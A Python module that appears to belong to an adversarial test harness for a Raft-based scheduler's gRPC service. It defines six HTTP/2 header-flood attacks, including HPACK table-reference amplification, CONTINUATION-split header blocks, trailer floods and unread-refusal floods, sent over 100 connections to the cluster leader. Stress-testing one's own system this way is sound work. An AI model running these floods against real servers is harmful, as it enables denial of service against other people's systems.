"""Metadata that is small on the wire and large in memory: names of entries, a byte each."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from contextlib import suppress

from . import http2
from .attack import attack
from .field import HostileCaller

LIST = "/raftsched.v1.JobService/ListJobs"
WORK = "/raftsched.v1.WorkerService/Work"
CONNECTIONS = 100
SENT_MAX = 96 << 20  # On all connections together.
REFERENCES = 12_000
CALLS_AT_ONCE = 10  # What one connection sends before another has its turn.
# "accept-encoding: gzip, deflate" of the table that everybody has, and the newest entry of ours.
OF_ALL, OF_OURS = b"\x90", b"\xbe"
PIECE = 16_000
AGAIN_S = 0.01


def entry(name: str, value: str) -> bytes:
    """A header that goes into the table of the connection."""
    return b"\x40" + http2.literal(name, value)[1:]


def split(head: bytes, stream: int, *, end: bool = False) -> bytes:
    """A block of headers in as many frames as it needs."""
    parts = [head[at : at + PIECE] for at in range(0, len(head), PIECE)]
    sent = b""
    for number, part in enumerate(parts):
        kind = http2.CONTINUATION if number else http2.HEADERS
        flags = http2.END_HEADERS if number == len(parts) - 1 else 0
        flags |= http2.END_STREAM if end and not number else 0
        sent += http2.frame(kind, flags, stream, part)
    return sent


async def flood(
    field: HostileCaller,
    heads: Callable[[int], bytes],
    *,
    trailers: bytes = b"",
    reads: bool = True,
) -> None:
    """As many calls as fit into the bytes, on all connections, to one node, over and over as they
    break. `heads` gives the headers of a connection's call with this number."""
    address = field.brief.nodes[field.leader][0]
    left = SENT_MAX

    async def send(connection: http2.Connection) -> None:
        nonlocal left
        number = 0
        while field.goes_on and left > 0:
            for _ in range(CALLS_AT_ONCE):
                stream, connection.stream = connection.stream, connection.stream + 2
                data = split(heads(number), stream)
                if trailers:
                    data += split(trailers, stream, end=True)
                number, left = number + 1, left - len(data)
                field.found.calls += 1
                connection.writer.write(data)
            await connection.writer.drain()
            await asyncio.sleep(0)

    async def one() -> None:
        while field.goes_on and left > 0:
            with suppress(OSError):
                connection = await http2.Connection.open(address)
                async with field.tasks([connection.swallow()] if reads else []):
                    await send(connection)
                    await field.rest()
                connection.close()
            await asyncio.sleep(AGAIN_S)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    field.found.figures["sent_mb"] = round((SENT_MAX - left) / (1 << 20))


@attack("-", 6)
async def header_references(field: HostileCaller) -> None:
    """Calls of strangers whose headers name one entry of HTTP/2's own table 12,000 times."""
    head = http2.headers(LIST) + OF_ALL * REFERENCES
    await flood(field, lambda _: head)


@attack("-", 6)
async def header_table(field: HostileCaller) -> None:
    """Calls of strangers that name an entry of their own of the smallest size, 2,000 times."""
    first, later = entry("a", ""), OF_OURS * 2_000
    head = http2.headers(LIST)
    await flood(field, lambda number: head + (b"" if number else first) + later)


@attack("-", 6)
async def header_just_allowed(field: HostileCaller) -> None:
    """Streams of strangers that never end, each with as many headers as the limit allows."""
    first, later = entry("a", ""), OF_OURS * 230
    head = http2.headers(WORK)
    await flood(field, lambda number: head + (b"" if number else first) + later)


@attack("-", 6)
async def header_trailers(field: HostileCaller) -> None:
    """Headers, and behind them trailers that name one entry 12,000 times."""
    head, trailers = http2.headers(LIST), OF_ALL * REFERENCES
    await flood(field, lambda _: head, trailers=trailers)


@attack("-", 6)
async def header_answers_unread(field: HostileCaller) -> None:
    """The smallest calls there are, by strangers who read none of the refusals."""
    fields = (
        (":method", "POST"), (":scheme", "http"), (":path", LIST), (":authority", "cluster"),
        ("te", "trailers"), ("content-type", "application/grpc"),
    )  # fmt: skip
    first = b"".join(entry(name, value) for name, value in fields)
    later = bytes(OF_OURS[0] + number for number in reversed(range(len(fields))))
    await flood(field, lambda number: later if number else first, reads=False)


@attack("-", 6)
async def header_refusals_unread(field: HostileCaller) -> None:
    """As header_references, with just enough to be refused, by strangers who do not read."""
    head = http2.headers(LIST) + OF_ALL * 300
    await flood(field, lambda _: head, reads=False)
